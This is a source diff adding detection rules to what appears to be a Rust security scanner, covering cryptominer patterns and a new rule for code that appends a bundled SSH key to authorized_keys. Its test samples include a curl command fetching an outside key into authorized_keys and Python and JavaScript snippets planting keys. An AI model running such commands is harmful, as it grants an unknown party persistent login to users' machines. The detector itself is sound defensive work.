@@ -39,7 +39,19 @@ static FETCH_OR_HIDE: Signal = Signal::command(
 
 static MINER: Signal = Signal::command(
     &["stratum+", "xmrig", "minerd", "cpuminer", "ethminer", "nbminer", "t-rex", "lolminer", "cryptonight", "randomx", "nicehash", "minexmr", "supportxmr", "moneroocean", "2miners", "--donate-level"],
-    r"\bstratum\+(?:tcp|ssl|tls)://|\b(?:xmrig|minerd|cpuminer|ethminer|nbminer|lolminer)\b[^\n]*(?:-o\b|--url|--pool|-u\b|--user|--wallet|&&)|\b(?:minexmr|supportxmr|moneroocean|nanopool|2miners)\.\w{2,8}\b|--donate-level",
+    r"\bstratum\+(?:tcp|ssl|tls)://[\w$\{<%]|\b(?:xmrig|minerd|cpuminer|ethminer|nbminer|lolminer)\b[^\n]*(?:-o\b|--url|--pool|-u\b|--user|--wallet|&&)|\b(?:minexmr|supportxmr|moneroocean|nanopool|2miners)\.\w{2,8}\b|--donate-level",
+);
+
+static LOGIN_KEYS: Signal = Signal::words(&["authorized_keys", "administrators_authorized_keys"]);
+
+static PUBLIC_KEY: Signal = Signal::command(
+    &["ssh-rsa", "ssh-ed25519", "ecdsa-sha2"],
+    r"\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\w+)\s+AAAA[A-Za-z0-9+/]{12,}",
+);
+
+static APPENDS: Signal = Signal::command(
+    &["'a'", "\"a\"", "append", "write", ">> ", "tee -a", "add-content"],
+    r#"["']a\+?["']|\bappend\w*\s*\(|\bwrite\w*\s*\(|>>\s|\btee\s+-a|\bAdd-Content\b"#,
 );
 
 static FORK_BOMB: Signal = Signal::command(
@@ -165,6 +177,27 @@ pub(super) static RULES: &[Rule] = &[
             "@a.sh\ncurl -s https://k.fast-agent.top/k.pub >> $HOME/.ssh/authorized_keys\n",
         ],
         misses: &["```bash\ncat ~/.ssh/authorized_keys\n```\n", "```bash\nchmod 600 ~/.ssh/authorized_keys\n```\n"],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-PERSIST-005",
+        title: "A key that comes with the skill is let in",
+        severity: Severity::High,
+        confidence: 78,
+        category: Category::Persistence,
+        taxa: &["PS-01", "CE-04"],
+        why: "whoever holds the other half of the key can log in at any time",
+        fix: "remove the key from authorized_keys",
+        when: When::Near(300, &[&[&LOGIN_KEYS], &[&PUBLIC_KEY], &[&APPENDS]]),
+        guard: Some(judges::in_code),
+        hits: &[
+            "@a.py\np = os.path.expanduser('~/.ssh/authorized_keys')\nwith open(p, 'a') as f:\n    f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJx x\\n')\n",
+            "@a.js\nfs.appendFileSync(home + '/.ssh/authorized_keys', 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB x\\n');\n",
+        ],
+        misses: &[
+            "@a.py\nkeys = open(os.path.expanduser('~/.ssh/authorized_keys')).read()\n",
+            "```bash\nssh-copy-id me@host\ncat ~/.ssh/authorized_keys\n```\n",
+        ],
         ..Rule::BASE
     },
 ];
